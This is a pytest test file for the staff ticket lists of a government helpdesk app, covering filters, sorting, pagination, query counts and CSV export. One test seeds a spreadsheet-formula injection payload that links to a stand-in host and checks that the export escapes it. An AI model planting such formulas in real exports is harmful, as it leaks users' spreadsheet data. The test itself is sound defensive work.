"""Staff side, the ticket lists (issue #4): columns, filters, search, sorting, 50 a page, the
queue counts on the landing page, and a constant number of queries per page (no N+1)."""

from __future__ import annotations

import re
from contextlib import contextmanager

import pytest

from models import workflow
from models.catalog import Layanan, PerangkatDaerah
from models.db import connection, database, utcnow
from models.staff import User
from models.ticket import Ticket
from tests.helpers import T0, export_rows, new_request, required_uploads

pytestmark = pytest.mark.csrf_off  # forms are posted without their token


def numbers(html):
    return re.findall(r"SD-\d{4}-\d{6}", html)


def row_of(html, text):
    """The list's table row (<tr> ... </tr>) that shows `text`."""
    at = html.index(text)
    return html[html.rindex("<tr", 0, at) : html.index("</tr>", at)]


def open_ticket(code="permintaan-subdomain", now=T0, **fields):
    layanan = Layanan.get(Layanan.code == code)
    return workflow.submit(
        None, new_request(layanan=layanan, **fields), required_uploads(layanan), now=now
    )


@contextmanager
def count_queries():
    seen = []
    original = database.obj.execute_sql

    def spy(sql, params=None, *args, **kwargs):
        seen.append(sql)
        return original(sql, params, *args, **kwargs)

    database.obj.execute_sql = spy
    try:
        yield seen
    finally:
        database.obj.execute_sql = original


def test_list_row_shows_the_columns(client, login_as, make_ticket):
    ticket = make_ticket("assigned")
    login_as("helpdesk")
    html = client.get("/admin/tiket/").get_data(as_text=True)
    # The ticket's own row: the page always holds the agency, service, agent and status names
    # (the filters' options) and the word "overdue" (the stylesheet).
    row = row_of(html, ticket.number)
    for text in (
        "Dinas Pendidikan Provinsi Jawa Barat",
        "Permintaan subdomain jabarprov.go.id",
        "Subdomain untuk aplikasi PPDB",
        "Galih Ramadhan Saputra",
        'class="badge badge-secondary status-assigned"',
        "Dikerjakan petugas",
        "WIB",
        'class="text-danger font-weight-bold overdue"',  # its step-5 due time has passed
        "hari",
    ):
        assert text in row, text


def test_due_time_not_yet_passed_is_not_highlighted(client, login_as, db):
    open_ticket(now=utcnow())
    login_as("helpdesk")
    html = client.get("/admin/tiket/").get_data(as_text=True)
    assert "status-open" in html and "text-danger font-weight-bold overdue" not in html


def test_filters_and_search(client, login_as, make_ticket, db):
    a = make_ticket("open", subject="Subdomain PPDB")
    b = make_ticket("verified", subject="Subdomain Samsat", requester_name="Agus Wijaya")
    c = open_ticket("gangguan-aplikasi", subject="Aplikasi lambat", now=utcnow())
    bapenda = PerangkatDaerah.get(PerangkatDaerah.code == "BAPENDA")
    d = open_ticket(perangkat_daerah_id=bapenda.id, subject="Subdomain pajak")
    login_as("helpdesk")

    def listed(query):
        return set(numbers(client.get("/admin/tiket/?" + query).get_data(as_text=True)))

    assert listed("flt0_0=verified") == {b.number}  # status
    gangguan = Layanan.get(Layanan.code == "gangguan-aplikasi").id
    assert listed(f"flt0_1={gangguan}") == {c.number}  # service
    assert listed(f"flt0_2={bapenda.id}") == {d.number}  # Perangkat Daerah
    assert listed("flt0_4=pendek") == {c.number}  # duration class
    assert listed("flt0_5=1") == {a.number, b.number, d.number}  # overdue
    assert listed("flt0_5=0") == {c.number}
    assert listed("search=Agus") == {b.number}  # requester
    assert listed("search=pajak") == {d.number}  # subject
    assert listed(f"search={a.number}") == {a.number}  # number


def test_agent_filter(client, login_as, make_ticket, users):
    assigned = make_ticket("assigned")
    make_ticket("open")
    login_as("admin")
    html = client.get(f"/admin/tiket/?flt0_3={users['agent'].id}").get_data(as_text=True)
    assert set(numbers(html)) == {assigned.number}


def test_sorting_by_agency_and_number(client, login_as, db):
    bapenda = PerangkatDaerah.get(PerangkatDaerah.code == "BAPENDA")
    first = open_ticket()  # Dinas Pendidikan
    second = open_ticket(perangkat_daerah_id=bapenda.id)  # Badan Pendapatan Daerah
    login_as("helpdesk")
    by_agency = numbers(client.get("/admin/tiket/?sort=1").get_data(as_text=True))
    assert by_agency == [second.number, first.number]
    by_number_desc = numbers(client.get("/admin/tiket/?sort=0&desc=1").get_data(as_text=True))
    assert by_number_desc == [second.number, first.number]
    by_agent = client.get("/admin/tiket/?sort=5")
    assert by_agent.status_code == 200


def make_many(count):
    """`count` open tickets, inserted directly (the workflow is not what is measured here)."""
    template = Ticket.get_by_id(open_ticket().id)
    rows = []
    for i in range(count - 1):
        row = {f.name: getattr(template, f.name) for f in Ticket._meta.sorted_fields}
        row.pop("id")
        row.update(
            number=f"SD-2026-9{i:05d}", tracking_token=f"token-{i:040d}", submission_key=None
        )
        row["perangkat_daerah"] = template.perangkat_daerah_id
        row["layanan"] = template.layanan_id
        rows.append(row)
    Ticket.insert_many(rows).execute()


def test_fifty_a_page(client, login_as, db):
    make_many(55)
    login_as("helpdesk")
    first = client.get("/admin/tiket/").get_data(as_text=True)
    assert len(numbers(first)) == 50 and "Daftar (55)" in first
    assert len(numbers(client.get("/admin/tiket/?page=1").get_data(as_text=True))) == 5


@pytest.mark.parametrize("role", ["helpdesk", "admin"])
def test_list_queries_do_not_grow_with_the_rows(client, login_as, make_ticket, users, db, role):
    make_ticket("assigned")
    login_as(role)
    client.get("/admin/tiket/")  # warm-up: first-request work is not what is measured
    with count_queries() as few:
        client.get("/admin/tiket/")
    make_many(30)
    for _ in range(3):
        make_ticket("assigned")
    with count_queries() as many:
        html = client.get("/admin/tiket/").get_data(as_text=True)
    assert len(numbers(html)) == 34
    assert len(many) == len(few), many
    assert not [sql for sql in many if '"document"' in sql]  # never the documents table


def test_landing_page_counts_the_users_queues(client, login_as, make_ticket):
    make_ticket("open")
    make_ticket("open")
    make_ticket("verified")
    make_ticket("signed")
    login_as("helpdesk")
    html = client.get("/admin/").get_data(as_text=True)

    def count(endpoint):
        row = re.search(
            rf'data-queue="{endpoint}">.*?<span class="badge[^"]*">(\d+)</span>', html, re.S
        )
        return int(row.group(1))

    assert (count("q_verify"), count("q_dispose"), count("q_close")) == (2, 1, 1)
    assert 'data-queue="q_mine"' not in html  # an agent's queue
    login_as("agent")
    html = client.get("/admin/").get_data(as_text=True)
    assert count("q_close") == 1 and 'data-queue="q_verify"' not in html


def test_lists_filters_and_sorting_on_postgresql(postgres_url, make_app):
    """The joined, aliased list query (the agent is a second join on "user") on PostgreSQL."""
    from tests.helpers import DEMO_PASSWORD, totp_code

    app = make_app(DATABASE_URL=postgres_url, WTF_CSRF_ENABLED=False)
    with app.app_context(), connection():
        first = open_ticket()
        second = open_ticket(subject="Subdomain kedua")
        helpdesk = User.get(User.email == "helpdesk@example.go.id")
        workflow.verify_complete(helpdesk, second.id, now=T0)
        agent = User.get(User.email == "agen@example.go.id")
        workflow.dispose(helpdesk, second.id, agent.id, now=T0)
        admin = User.get(User.email == "admin@example.go.id")
    client = app.test_client()
    client.post("/staf/login", data={"email": "admin@example.go.id", "password": DEMO_PASSWORD})
    client.post("/staf/tf-validate", data={"code": totp_code(app, admin)})
    for query in ("sort=5", "sort=5&desc=1", "sort=1", f"flt0_3={agent.id}", "search=kedua"):
        response = client.get("/admin/tiket/?" + query)
        assert response.status_code == 200, query
    html = client.get(f"/admin/tiket/?flt0_3={agent.id}").get_data(as_text=True)
    assert set(numbers(html)) == {second.number}
    assert set(numbers(client.get("/admin/tiket/?sort=5").get_data(as_text=True))) == {
        first.number,
        second.number,
    }
    assert client.get(f"/admin/tiket/details/?id={second.id}").status_code == 200
    database.close()


def test_export_neutralises_spreadsheet_formulas(client, login_as, make_ticket):
    make_ticket("open", subject='=HYPERLINK("http://x.example/?"&B2;"buka")')
    make_ticket("open", requester_name="@SUM(1+1)")
    login_as("admin")
    cells = [
        cell
        for row in export_rows(client.get("/admin/tiket/export/csv/").get_data())
        for cell in row
    ]
    assert '\'=HYPERLINK("http://x.example/?"&B2;"buka")' in cells
    assert "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_list_counts_on_the_ticket_table_alone(client, login_as, make_ticket):
    """The total is counted without the joins of the page's rows (they cannot change it)."""
    make_ticket("assigned")
    login_as("helpdesk")
    client.get("/admin/tiket/?flt0_0=assigned")
    with count_queries() as seen:
        html = client.get("/admin/tiket/?flt0_0=assigned").get_data(as_text=True)
    counts = [sql for sql in seen if "COUNT(" in sql.upper()]
    assert counts and "Daftar (1)" in html
    # the scope's own subquery (the bidang's services) stays; the rows' joins are not there
    assert not [s for s in counts if '"perangkat_daerah"' in s or '"user"' in s], counts


def test_count_stops_at_the_cap_and_says_so(client, login_as, make_ticket, monkeypatch):
    from deskadmin import tickets

    for _ in range(4):
        make_ticket("open")
    monkeypatch.setattr(tickets, "COUNT_CAP", 3)
    monkeypatch.setattr(tickets.capped_count, "__defaults__", (3,))
    login_as("admin")
    html = client.get("/admin/tiket/").get_data(as_text=True)
    assert "Daftar (lebih dari 3)" in html
    assert len(numbers(html)) == 4  # the rows themselves are not capped
    monkeypatch.setattr(tickets.capped_count, "__defaults__", (4,))
    assert "Daftar (4)" in client.get("/admin/tiket/").get_data(as_text=True)


def test_capped_count_text():
    from deskadmin.tickets import COUNT_CAP, CappedCount, capped_count

    assert COUNT_CAP == 10_000
    with_cap = CappedCount(COUNT_CAP)
    assert with_cap == 10_000 and with_cap / 50 == 200  # the pager computes with the number
    assert str(with_cap) == "lebih dari 10.000"
    assert capped_count(Ticket.select().where(Ticket.id < 0)) == 0


def test_export_streams_every_row(app, client, login_as, make_ticket):
    """The CSV export is a generator over the database cursor, and it has every ticket."""
    import types

    made = {make_ticket("open").number for _ in range(7)}
    login_as("admin")
    view = next(
        v for v in app.extensions["admin"][0]._views if getattr(v, "endpoint", "") == "tickets"
    )
    with app.test_request_context("/admin/tiket/export/csv/"):
        from flask_login import login_user

        login_user(User.get(User.email == "admin@example.go.id"))
        _, rows = view._export_data()
        assert isinstance(rows, types.GeneratorType)
    response = client.get("/admin/tiket/export/csv/")
    assert response.is_streamed
    lines = export_rows(response.get_data())
    assert {line[0] for line in lines[1:]} == made


def test_stream_reads_in_chunks_on_both_back_ends(any_app):
    """`models.streaming.stream` yields every row of a query, a chunk at a time (PostgreSQL: a
    server-side cursor), as peewee model instances with their joined rows."""
    from models.streaming import stream

    with any_app.app_context(), connection():
        made = [open_ticket(subject=f"Tiket {i}").number for i in range(5)]
        query = Ticket.select(Ticket, PerangkatDaerah).join(PerangkatDaerah).order_by(Ticket.id)
        rows = stream(query, chunk=2)
        first = next(rows)
        assert first.number == made[0] and first.perangkat_daerah.name
        assert [first.number] + [t.number for t in rows] == made
    database.close()
